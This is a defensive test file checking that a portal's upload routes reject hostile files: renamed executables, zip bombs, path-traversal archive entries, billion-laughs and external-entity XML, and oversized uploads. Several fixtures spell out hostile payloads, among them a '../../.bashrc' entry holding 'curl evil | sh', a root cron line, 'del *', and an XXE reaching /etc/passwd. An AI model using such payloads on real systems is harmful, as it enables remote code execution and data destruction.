import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { TESTIMONIAL_ERROR } from '@portal/domain/api/testimonials';
import { count } from 'drizzle-orm';
import { afterAll, describe, expect, it } from 'vitest';
import { createSignedInUser, createUser } from '../../../test/factories.ts';
import {
  billionLaughsXml,
  deflatedEntry,
  ELF_PROGRAM,
  externalDtdRelationships,
  externalEntityXml,
  rawDocx,
  utf16,
  WINDOWS_PROGRAM,
  zerosEntry,
} from '../../../test/fixtures/files/hostile-files.ts';
import {
  findUploadRoutes,
  openOrderForm,
  postMultipart,
  sendToolUpload,
  uploadFile,
} from '../../../test/fixtures/files/upload-requests.ts';
import { staffClient } from '../../../test/fixtures/fulfilment/staff-requests.ts';
import { filesUnder } from '../../../test/stored-files.ts';
import { BACKENDS, withTestApp } from '../../../test/test-app.ts';
import type { TApp } from '../../app.ts';
import type { Db } from '../../platform/db.ts';
import { DOCX_LIMITS } from '../../platform/documents/docx-archive.ts';
import { digitalDocuments } from '../../schema/digital-documents.ts';
import { orderFormFiles } from '../../schema/order-form.ts';
import { testimonials } from '../../schema/testimonials.ts';
import { grantDigitalPurchase } from '../digital-purchases/access.ts';
import { placeTestOrder } from '../orders/fixtures/checkout-fixtures.ts';
import { sendTestimonial } from '../testimonials/fixtures/testimonial-photos.ts';

const MiB = 1024 ** 2;
/** Small enough that a file over it is cheap to send, large enough for every bomb below. */
const UPLOAD_LIMIT = 4 * MiB;
const LOCALES = ['en', 'zh', 'ja', 'pt', 'es'] as const;

type THostileFile = { name: string; kind: string; fileName: string; content: Buffer; status: number; error: string };

/** Every hostile file, with the refusal it must meet. Built once: the bomb takes a second to deflate. */
function hostileFiles(): THostileFile[] {
  const refusedArchive = { kind: 'main', fileName: 'paper.docx', status: 422, error: 'file-archive-invalid' };
  const declaresDoctype = { kind: 'main', fileName: 'paper.docx', status: 422, error: 'file-document-type-declared' };
  const bomb = zerosEntry('word/media/image1.bin', 1024);
  const kernel = deflatedEntry('word/media/k.bin', Buffer.alloc(MiB - 1));
  const files: THostileFile[] = [
    {
      name: 'a Linux program renamed .docx',
      kind: 'main',
      fileName: 'paper.docx',
      content: ELF_PROGRAM,
      status: 422,
      error: 'file-content-mismatch',
    },
    {
      name: 'a Windows program renamed .pdf',
      kind: 'main',
      fileName: 'paper.pdf',
      content: WINDOWS_PROGRAM,
      status: 422,
      error: 'file-content-mismatch',
    },
    {
      name: 'a Windows program renamed .txt',
      kind: 'main',
      fileName: 'paper.txt',
      content: WINDOWS_PROGRAM,
      status: 422,
      error: 'file-content-mismatch',
    },
    {
      name: 'a Linux program renamed .png',
      kind: 'figure',
      fileName: 'figure.png',
      content: ELF_PROGRAM,
      status: 422,
      error: 'file-content-mismatch',
    },
    {
      name: 'a Windows program under its own name',
      kind: 'main',
      fileName: 'setup.exe',
      content: WINDOWS_PROGRAM,
      status: 415,
      error: 'file-type-not-allowed',
    },
    { name: 'a zip bomb: 1 GiB of zeros in 1 MiB', ...refusedArchive, content: rawDocx({}, [bomb]) },
    {
      name: 'the same bomb, its directory saying 1,000 bytes',
      ...refusedArchive,
      content: rawDocx({}, [{ ...bomb, size: 1000 }]),
    },
    {
      name: 'a zip bomb of 1,100 records sharing one entry: 72 KB naming 1.15 GB',
      ...refusedArchive,
      content: rawDocx(
        {},
        [kernel],
        Array.from({ length: 1100 }, (_, i) => ({ name: `word/media/k${i}.bin`, of: 3 })),
      ),
    },
    {
      name: 'a .docx with 10,000 entries',
      ...refusedArchive,
      content: rawDocx(
        {},
        Array.from({ length: 10_000 }, (_, i) => deflatedEntry(`word/parts/${i}.xml`, '<x/>')),
      ),
    },
    {
      name: 'an entry named ../../',
      ...refusedArchive,
      content: rawDocx({}, [deflatedEntry('../../.bashrc', 'curl evil | sh')]),
    },
    {
      name: 'an entry named with an absolute path',
      ...refusedArchive,
      content: rawDocx({}, [deflatedEntry('/etc/cron.d/portal', '* * * * * root sh')]),
    },
    { name: 'an entry named ..\\..\\', ...refusedArchive, content: rawDocx({}, [deflatedEntry('..\\..\\evil.bat', 'del *')]) },
    {
      name: 'entity expansion ("billion laughs") in document.xml',
      ...declaresDoctype,
      content: rawDocx({ document: billionLaughsXml() }),
    },
    { name: 'the billion laughs in UTF-16', ...declaresDoctype, content: rawDocx({ document: utf16(billionLaughsXml()) }) },
    {
      name: 'an external entity (file:///etc/passwd) in document.xml',
      ...declaresDoctype,
      content: rawDocx({ document: externalEntityXml() }),
    },
    {
      name: 'an external DTD in the package relationships',
      ...declaresDoctype,
      content: rawDocx({ relationships: externalDtdRelationships() }),
    },
    { name: 'an empty file', kind: 'main', fileName: 'paper.docx', content: Buffer.alloc(0), status: 400, error: 'file-empty' },
    {
      name: 'a file one byte over the limit',
      kind: 'main',
      fileName: 'paper.pdf',
      content: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(UPLOAD_LIMIT + 1 - 9, 0x20)]),
      status: 413,
      error: 'file-too-large',
    },
  ];
  return files;
}

type TUploadTarget = { send: (file: THostileFile) => Promise<{ statusCode: number; json: () => unknown }> };
/** A route that takes something else than documents refuses the hostile files with its own messages. */
type TRefusal = { status: number; answer: { error: string } };
type TRefusingTarget = TUploadTarget & { refusalOf: (file: THostileFile) => TRefusal };

function expectedRefusal(target: TUploadTarget | TRefusingTarget, file: THostileFile): TRefusal {
  return 'refusalOf' in target ? target.refusalOf(file) : { status: file.status, answer: { error: file.error } };
}

/** The automated tools take Word documents only: the programs renamed .pdf, .txt or .png go as .docx. */
const sendWordDocument = (app: TApp, session: string, url: string, fields: Record<string, string>, file: THostileFile) =>
  sendToolUpload(app, session, url, fields, {
    fileName: file.fileName.replace(/\.(pdf|txt|png)$/, '.docx'),
    content: file.content,
  });

/**
 * How to send a file to each upload route, by route. A route that accepts multipart bodies and is missing
 * here fails the first test below: a new upload route is tested with every hostile file from birth.
 */
const UPLOAD_ROUTES: Record<string, (app: TApp, db: Db) => Promise<TUploadTarget>> = {
  'POST /api/order-form/:id/files': async (app, db) => {
    const { session } = await createSignedInUser(app, db);
    const { identity, requester } = await openOrderForm(app, { session });
    return { send: (file) => uploadFile(app, identity, requester, file.kind, file.fileName, file.content) };
  },
  'POST /api/grammar-check/create': async (app, db) => {
    const { session } = await createSignedInUser(app, db);
    return {
      send: (file) => {
        // The grammar check takes Word documents only: the programs renamed .pdf, .txt or .png go as .docx.
        const fileName = file.fileName.replace(/\.(pdf|txt|png)$/, '.docx');
        return postMultipart(
          app,
          '/api/grammar-check/create',
          [
            { name: 'terms', value: 'true' },
            { name: 'files', fileName, content: file.content },
          ],
          { session },
        );
      },
    };
  },
  'POST /api/digital-order/create': async (app, db) => {
    const { user, session } = await createSignedInUser(app, db);
    await grantDigitalPurchase(db, { userId: user.id, type: 'translation', uses: 100 });
    return {
      send: (file) => sendWordDocument(app, session, '/api/digital-order/create', { language: 'spanish-to-english' }, file),
    };
  },
  'POST /api/digital-edit/create': async (app, db) => {
    const { user, session } = await createSignedInUser(app, db);
    await grantDigitalPurchase(db, { userId: user.id, type: 'editing' });
    return { send: (file) => sendWordDocument(app, session, '/api/digital-edit/create', { styleOfEnglish: 'british' }, file) };
  },
  'POST /api/order/:externalId/proof-of-payment': async (app, db) => {
    const { user, session } = await createSignedInUser(app, db);
    const { externalId } = await placeTestOrder(db, user.id, { status: 'awaiting-payment' });
    return {
      send: (file) => {
        // Proofs take no plain text: the program renamed .txt goes as a .pdf, refused for its content all the same.
        return postMultipart(
          app,
          `/api/order/${externalId}/proof-of-payment`,
          [{ name: 'file', fileName: file.fileName.replace(/\.txt$/, '.pdf'), content: file.content }],
          { session },
        );
      },
    };
  },
  'POST /api/staff/orders/:externalId/deliverables': async (app, db) => {
    const researcher = await createUser(db);
    const { externalId } = await placeTestOrder(db, researcher.id);
    const { session } = await createSignedInUser(app, db, { role: 'staff' });
    return { send: (file) => staffClient(app, session).upload(externalId, file.fileName, file.content, file.kind) };
  },
  'POST /api/testimonials/create': async (app, db) => {
    const { session } = await createSignedInUser(app, db);
    const target: TRefusingTarget = {
      // Documents go as photos (.jpg), programs keep .exe; every one is refused, so one researcher sends them all.
      send: (file) =>
        sendTestimonial(app, session, 'Hostile', [
          { fileName: file.fileName.replace(/\.(docx|pdf|txt|png)$/, '.jpg'), content: file.content },
        ]),
      refusalOf: (file) =>
        file.error === 'file-type-not-allowed'
          ? { status: 415, answer: { error: TESTIMONIAL_ERROR.photoType } }
          : file.error === 'file-too-large'
            ? { status: 413, answer: { error: `${TESTIMONIAL_ERROR.photoTooLarge}?max=${UPLOAD_LIMIT / MiB}` } }
            : { status: 422, answer: { error: TESTIMONIAL_ERROR.photoNotImage } },
    };
    return target;
  },
};

/** The garbage collector, so that heap figures before and after compare live memory only. */
function garbageCollector(): () => void {
  setFlagsFromString('--expose-gc');
  return runInNewContext('gc') as () => void;
}

function memory(gc: () => void) {
  gc();
  const { rss, heapUsed } = process.memoryUsage();
  return { rss, heapUsed };
}

const catalogues = LOCALES.map((locale) => ({
  locale,
  messages: JSON.parse(
    readFileSync(path.join(import.meta.dirname, `../../../../web/src/locales/${locale}/order-form.json`), 'utf8'),
  ) as Record<string, string>,
}));

describe.each(BACKENDS)('hostile files on every upload route, on %s', (backend) => {
  const dataDir = mkdtempSync(path.join(os.tmpdir(), 'hostile-uploads-'));
  const t = withTestApp(backend, { DATA_DIR: dataDir, MAX_UPLOAD_BYTES: String(UPLOAD_LIMIT) });
  afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

  it('knows how to send a file to every route that takes a multipart body', async () => {
    expect(await findUploadRoutes(t.app)).toEqual(Object.keys(UPLOAD_ROUTES));
  });

  it('refuses each one with a message every language has, keeping nothing, in little memory', async () => {
    const files = hostileFiles();
    expect(DOCX_LIMITS.maxEntries).toBeLessThan(10_000);
    const gc = garbageCollector();
    const storedRows = async () => ({
      orderFormFiles: (await t.db.select({ n: count() }).from(orderFormFiles))[0]?.n,
      digitalDocuments: (await t.db.select({ n: count() }).from(digitalDocuments))[0]?.n,
    });
    const rowsBefore = await storedRows();
    const testimonialsBefore = await t.db.select({ n: count() }).from(testimonials);
    const before = memory(gc);

    const outcomes: unknown[] = [];
    const expected: unknown[] = [];
    for (const [route, open] of Object.entries(UPLOAD_ROUTES)) {
      const target = await open(t.app, t.db);
      for (const file of files) {
        const response = await target.send(file);
        const answer = response.statusCode < 400 ? 'stored' : response.json();
        outcomes.push({ route, file: file.name, status: response.statusCode, answer });
        expected.push({ route, file: file.name, ...expectedRefusal(target, file) });
      }
    }

    const after = memory(gc);
    const growthMb = { rss: (after.rss - before.rss) / MiB, heapUsed: (after.heapUsed - before.heapUsed) / MiB };
    console.info(
      `${outcomes.length} hostile uploads on ${backend}: rss ${(before.rss / MiB).toFixed(1)} → ${(after.rss / MiB).toFixed(1)} MB ` +
        `(${growthMb.rss.toFixed(1)}), heap used ${(before.heapUsed / MiB).toFixed(1)} → ${(after.heapUsed / MiB).toFixed(1)} MB ` +
        `(${growthMb.heapUsed.toFixed(1)})`,
    );
    expect(outcomes).toEqual(expected);
    expect(filesUnder(path.join(dataDir, 'files'))).toEqual([]);
    expect(filesUnder(path.join(dataDir, 'uploads-in-progress'))).toEqual([]);
    expect(await storedRows()).toEqual(rowsBefore);
    expect(await t.db.select({ n: count() }).from(testimonials)).toEqual(testimonialsBefore);
    for (const error of new Set(files.map((file) => file.error))) {
      for (const { locale, messages } of catalogues)
        expect({ locale, error, message: messages[error] ?? null }).not.toMatchObject({ message: null });
    }
    // Live memory after a collection, with a wide margin over what the refusals need (a few MB).
    expect(growthMb.heapUsed).toBeLessThan(50);
  }, 180_000);
});
